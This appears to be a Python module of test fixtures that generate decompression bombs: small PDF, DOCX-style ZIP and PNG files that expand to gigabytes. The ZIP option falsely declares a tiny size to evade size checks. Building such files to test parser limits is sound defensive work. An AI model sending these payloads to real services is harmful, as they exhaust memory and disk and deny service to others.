"""Files of a few kilobytes that would unpack to gigabytes."""

import io
import struct
import zipfile
import zlib
from typing import Final

_BLOCK: Final = 4 * 1024 * 1024
_ADLER: Final = 65521
_SPACE: Final = 32
_GIB: Final = 1024**3


def pdf_bomb(*, unpacked: int = 3 * _GIB // 2) -> bytes:
    """A PDF whose one page is drawn by a stream of this many bytes, packed twice."""
    inner = _spaces(b"BT /F1 12 Tf 72 720 Td (Bill of lading) Tj ET ", unpacked)
    stream = zlib.compress(inner, 9)
    return plain_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            (
                b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
                b"/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>"
            ),
            b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n" % len(stream) + stream + b"\nendstream",
        ]
    )


def plain_pdf(objects: list[bytes]) -> bytes:
    """A PDF of these objects, the first of which is its catalog."""
    out = b"%PDF-1.4\n"
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return (
        out
        + b"xref\n0 %d\n0000000000 65535 f \n" % size
        + table
        + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, len(out))
    )


def zip_bomb(*, unpacked: int = 2 * _GIB, lie: bool = False) -> bytes:
    """A DOCX whose document unpacks to this many bytes; a liar declares a thousand.

    The liar also claims that its content ends there, so that a reader that trusts the list of
    contents sees a damaged document and one that does not sees a bomb.
    """
    raw = _spaces(b"<w:document>", unpacked)[2:-4]
    declared = 1_000 if lie else unpacked
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(
            "_rels/.rels",
            '<Relationships><Relationship Type="x/officeDocument" Target="word/document.xml"/></Relationships>',
        )
    data = out.getvalue()
    end = data.rfind(b"PK\x05\x06")
    count, size, start = struct.unpack_from("<HII", data, end + 10)
    name = b"word/document.xml"
    sums = (0, len(raw), declared)
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, *sums, len(name), 0)
    central = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, *sums, len(name), 0, 0, 0, 0, 0, start)
    body = data[:start] + local + name + raw
    entries = data[start : start + size] + central + name
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count + 1, count + 1, len(entries), len(body), 0)
    return body + entries + tail


def png_bomb(*, side: int = 60_000) -> bytes:
    """A PNG of `side` by `side` pixels, all of one colour."""
    raw = _zeros(side * (side + 1))
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", raw), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )


def _spaces(prefix: bytes, count: int) -> bytes:
    return _deflated(prefix, _SPACE, count)


def _zeros(count: int) -> bytes:
    return _deflated(b"", 0, count)


def _deflated(prefix: bytes, value: int, count: int) -> bytes:
    """What zlib makes of the prefix and `count` equal bytes, without packing them all.

    After a full flush a block depends on nothing before it, so one block is packed and
    repeated; the checksum of a run of equal bytes is a sum that needs no run.
    """
    blocks, rest = divmod(count, _BLOCK)
    first = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = first.compress(prefix) + first.flush(zlib.Z_FULL_FLUSH)
    again = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = again.compress(bytes([value]) * _BLOCK) + again.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail = last.compress(bytes([value]) * rest) + last.flush(zlib.Z_FINISH)
    begun = zlib.adler32(prefix)
    low, high = begun & 0xFFFF, begun >> 16
    high = (high + count * low + value * (count * (count + 1) // 2)) % _ADLER
    low = (low + count * value) % _ADLER
    return b"\x78\xda" + head + block * blocks + tail + struct.pack(">HH", high, low)
